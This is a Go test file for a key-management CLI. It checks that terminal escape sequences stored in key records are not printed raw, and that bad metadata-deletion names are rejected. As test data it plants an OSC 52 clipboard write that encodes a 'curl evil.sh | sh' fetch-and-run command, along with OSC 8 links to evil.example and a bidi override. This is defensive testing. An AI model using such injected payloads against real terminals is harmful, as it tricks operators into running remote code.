@@ -1,0 +1,79 @@
+package main
+
+import (
+	"encoding/json"
+	"fmt"
+	"path/filepath"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/extauthz/extauthz/keystore"
+	"github.com/extauthz/extauthz/keystore/sqlite"
+)
+
+// A record that holds characters no label may (written before they were
+// refused, or straight into the store) never reaches a terminal raw: that
+// held for names, owners, permissions and metadata, but a rate limit kept
+// as written (a stored text that no longer parses is shown as it is), the
+// ids a record names (rotated from, rotated to, lineage) and the id itself
+// were printed raw by keys show, keys list, revoke's notes and rotate's
+// messages: an OSC 52 clipboard write or an OSC 8 link reached the
+// operator's terminal.
+func TestKeysShowAndListQuoteEveryTextARecordHolds(t *testing.T) {
+	dir := t.TempDir()
+	path := writeConfig(t, fmt.Sprintf("store: {path: %q}\n", filepath.Join(dir, "k.db")))
+	st, err := sqlite.Open(filepath.Join(dir, "k.db"))
+	require.NoError(t, err)
+	now := time.Now().UTC()
+	id, err := keystore.NewID(now)
+	require.NoError(t, err)
+	var rate keystore.RateLimit
+	// OSC 52: write the operator's clipboard; OSC 8: a hyperlink.
+	require.NoError(t, rate.UnmarshalText([]byte("\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07100/m\x1b]8;;https://evil.example/\x1b\\")))
+	require.NoError(t, st.Create(t.Context(), &keystore.Key{ID: id, Name: "ok", Owner: "team", Permissions: []string{"read"},
+		RateLimit: rate, Lineage: "key_\x1b[2Jx", RotatedFrom: "key_\u202eevil",
+		CreatedAt: now}, keystore.NewHasher(nil).Hash("old"), 0))
+	// An id is printed as it is too (keys list, revoke's notes, rotate's
+	// "already rotated, to %s").
+	require.NoError(t, st.Create(t.Context(), &keystore.Key{ID: "key_\x1b]8;;https://evil.example/\x1b\\key_0Vd7NFXyfOIkpygzfyqF\x1b]8;;\x1b\\",
+		Name: "ok2", Owner: "team", Permissions: []string{"read"}, CreatedAt: now}, keystore.NewHasher(nil).Hash("old2"), 0))
+	require.NoError(t, st.Close())
+
+	out, errOut, code := cliRun(t, "keys", "show", id, "--config", path)
+	require.Equal(t, 0, code, errOut)
+	assertDrawsEverything(t, out, []string{"keys", "show"})
+	assert.NotContains(t, out, "\x1b]52;", "an OSC 52 clipboard write from the store reaches the terminal")
+
+	out, errOut, code = cliRun(t, "keys", "list", "--config", path)
+	require.Equal(t, 0, code, errOut)
+	assertDrawsEverything(t, out, []string{"keys", "list"})
+	assert.NotContains(t, out, "\x1b]8;;", "an OSC 8 hyperlink from the store reaches the terminal")
+}
+
+// keys update --meta NAME= deletes an entry; a name no entry can have
+// (Tier, in capitals) removed nothing and still exited 0 with the key
+// "updated" and audited. It is a usage error, as the admin API's 400 is.
+func TestDeletingAMetaEntryByANameNoEntryCanHaveIsAUsageError(t *testing.T) {
+	path := writeConfig(t, fmt.Sprintf("store: {path: %q}\n", filepath.Join(t.TempDir(), "k.db")))
+	out, errOut, code := cliRun(t, "keys", "create", "--config", path, "--json", "--name", "n", "--perm", "read", "--meta", "tier=admin")
+	require.Equal(t, 0, code, errOut)
+	var k struct {
+		ID   string
+		Meta map[string]string
+	}
+	require.NoError(t, json.Unmarshal([]byte(out), &k))
+	for _, bad := range []string{"Tier=", "Tier=gold", "2tier=", "ti-er="} {
+		_, errOut, code = cliRun(t, "keys", "update", k.ID, "--config", path, "--json", "--meta", bad)
+		assert.Equal(t, 2, code, "%s: %s", bad, errOut)
+		assert.Contains(t, errOut, "--meta")
+	}
+	out, errOut, code = cliRun(t, "keys", "show", k.ID, "--config", path, "--json")
+	require.Equal(t, 0, code, errOut)
+	require.NoError(t, json.Unmarshal([]byte(out), &k))
+	assert.Equal(t, map[string]string{"tier": "admin"}, k.Meta)
+	_, errOut, code = cliRun(t, "keys", "update", k.ID, "--config", path, "--meta", "tier=")
+	assert.Equal(t, 0, code, "a deletion by the entry's own name: %s", errOut)
+}
